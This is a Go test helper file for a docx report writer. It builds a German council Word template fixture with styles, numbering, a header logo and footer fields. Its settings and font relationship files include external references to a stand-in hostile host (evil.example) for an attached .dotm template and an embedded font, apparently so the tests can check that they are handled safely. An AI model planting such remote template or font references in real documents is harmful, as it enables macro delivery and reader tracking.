package docx_test

import (
	"archive/zip"
	"bytes"
	"image"
	"image/png"
	"maps"
	"slices"
	"strings"
	"testing"

	"familyhub/stocktake/model/report"
	"familyhub/stocktake/model/report/docx"
)

// spaces are the namespaces that parts of a template declare.
const spaces = ` xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"` +
	` xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"` +
	` xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"` +
	` xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"` +
	` xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"` +
	` xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"` +
	` xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"`

// parcel is the files of a template, by name.
type parcel map[string]string

// council is a template as a council has it, of a Word that speaks German: styles of its own,
// a picture in the header, page numbers in the footer, landscape.
func council() parcel {
	return parcel{
		"[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"/></Types>`,
		"_rels/.rels": related("rId1 officeDocument word/document.xml"),
		"word/document.xml": `<w:document` + spaces + `><w:body><w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId6"/></w:sectPr></w:pPr></w:p>` +
			`<w:p><w:r><w:t>the body of the template</w:t></w:r></w:p>` +
			`<w:sectPr><w:footerReference w:type="default" r:id="rId7"/><w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/>` +
			`<w:pgMar w:top="1701" w:right="1134" w:bottom="1134" w:left="1417" w:header="567" w:footer="567" w:gutter="0"/><w:cols w:num="2"/></w:sectPr></w:body></w:document>`,
		"word/_rels/document.xml.rels": related("rId1 styles styles.xml", "rId2 theme theme/theme1.xml", "rId3 numbering numbering.xml",
			"rId4 settings settings.xml", "rId5 fontTable fontTable.xml", "rId6 header header1.xml", "rId7 footer footer1.xml"),
		"word/styles.xml": `<w:styles` + spaces + `><w:docDefaults><w:rPrDefault><w:rPr><w:lang w:val="de-DE"/></w:rPr></w:rPrDefault></w:docDefaults>` +
			named("Standard", "Normal", "") + named("Titel", "Title", "") +
			named("berschrift1", "heading 1", `<w:rPr><w:color w:val="00695C" w:themeColor="accent1"/></w:rPr>`) + named("berschrift2", "HEADING 2", `<w:pPr><w:spacing w:before="120"/></w:pPr>`) +
			named("Aufzhlung", "List Bullet", `<w:pPr><w:numPr><w:numId w:val="3"/></w:numPr></w:pPr>`) +
			named("Aufzhlung2", "List Bullet 2", "") + named("Figure", "Abbildung", "") +
			`<w:style w:type="character" w:styleId="Fett"><w:name w:val="Strong"/></w:style>` +
			`<w:style w:type="table" w:styleId="Gitter"><w:name w:val="Table Grid"/></w:style></w:styles>`,
		"word/theme/theme1.xml": `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Council"><a:themeElements/></a:theme>`,
		"word/numbering.xml": `<w:numbering` + spaces + `><w:abstractNum w:abstractNumId="7"><w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/><w:lvlText w:val="■"/></w:lvl></w:abstractNum>` +
			`<w:num w:numId="3"><w:abstractNumId w:val="7"/></w:num></w:numbering>`,
		"word/settings.xml":             `<w:settings` + spaces + `><w:attachedTemplate r:id="rId1"/><w:trackRevisions/><w:defaultTabStop w:val="567"/></w:settings>`,
		"word/fontTable.xml":            `<w:fonts` + spaces + `><w:font w:name="Council Sans"><w:embedRegular r:id="rId1" w:fontKey="{1}"/><w:embedBold r:id="rId2" w:fontKey="{2}"/></w:font></w:fonts>`,
		"word/_rels/settings.xml.rels":  related("rId1 attachedTemplate https://evil.example/t.dotm External"),
		"word/_rels/fontTable.xml.rels": related("rId1 font fonts/font1.odttf", "rId2 font https://evil.example/f.odttf External"),
		"word/fonts/font1.odttf":        "a font",
		"word/header1.xml":              `<w:hdr` + spaces + `><w:p>` + pictured(`r:embed="rId1"`) + `<w:r><w:t>Northvale Council</w:t></w:r></w:p></w:hdr>`,
		"word/_rels/header1.xml.rels":   related("rId1 image media/logo.png"),
		"word/media/logo.png":           logo(),
		"word/footer1.xml": `<w:ftr` + spaces + `><w:p><w:pPr><w:pStyle w:val="Standard"/></w:pPr>` + wordField(" TITLE ", "A letter of May") +
			`<w:r><w:t>page </w:t></w:r>` + wordField("PAGE", "1") + `</w:p></w:ftr>`,
	}
}

// named is a style of paragraphs.
func named(id, name, properties string) string {
	usual := ""
	if name == "Normal" {
		usual = ` w:default="1"`
	}
	return `<w:style w:type="paragraph"` + usual + ` w:styleId="` + id + `"><w:name w:val="` + name + `"/>` + properties + `</w:style>`
}

// wordField is one of several elements, its instruction in two pieces.
func wordField(instruction, shown string) string {
	half := len(instruction) / 2
	run := func(inner string) string { return "<w:r>" + inner + "</w:r>" }
	return run(`<w:fldChar w:fldCharType="begin"/>`) + run(`<w:instrText>`+instruction[:half]+`</w:instrText>`) + run(`<w:instrText>`+instruction[half:]+`</w:instrText>`) +
		run(`<w:fldChar w:fldCharType="separate"/>`) + run(`<w:t>`+shown+`</w:t>`) + run(`<w:fldChar w:fldCharType="end"/>`)
}

// pictured is a run with a picture that refers to a file as it is told.
func pictured(reference string) string {
	return `<w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="Logo" descr="The council"/><a:graphic><a:graphicData>` +
		`<pic:pic><pic:blipFill><a:blip ` + reference + `/><a:stretch><a:fillRect/></a:stretch></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`
}

// related is a list of relations: id, kind, target and perhaps External.
func related(all ...string) string {
	out := `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	for _, one := range all {
		f := append(strings.Fields(one), "Internal")
		out += `<Relationship Id="` + f[0] + `" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + f[1] +
			`" Target="` + f[2] + `" TargetMode="` + f[3] + `"/>`
	}
	return out + `</Relationships>`
}

func logo() string {
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 4, 4))); err != nil {
		panic(err)
	}
	return b.String()
}

// with is the template with other files; one without content is not there.
func (p parcel) with(files ...string) parcel {
	out := maps.Clone(p)
	for i := 0; i < len(files); i += 2 {
		if out[files[i]] = files[i+1]; files[i+1] == "" {
			delete(out, files[i])
		}
	}
	return out
}

// in is the template with something replaced in a file.
func (p parcel) in(file, old, fresh string) parcel {
	if !strings.Contains(p[file], old) {
		panic(file + " is without " + old)
	}
	return p.with(file, strings.Replace(p[file], old, fresh, 1))
}

// zip is the template as a file.
func (p parcel) zip(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range slices.Sorted(maps.Keys(p)) {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(p[name])); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// like is a document with the looks of a template, in parts.
func like(t testing.TB, p parcel, doc *report.Document) map[string][]byte {
	t.Helper()
	return unpacked(t, writtenLike(t, p.zip(t), doc))
}

func writtenLike(t testing.TB, file []byte, doc *report.Document) []byte {
	t.Helper()
	template, err := docx.ReadTemplate(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := template.Write(&b, doc); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}
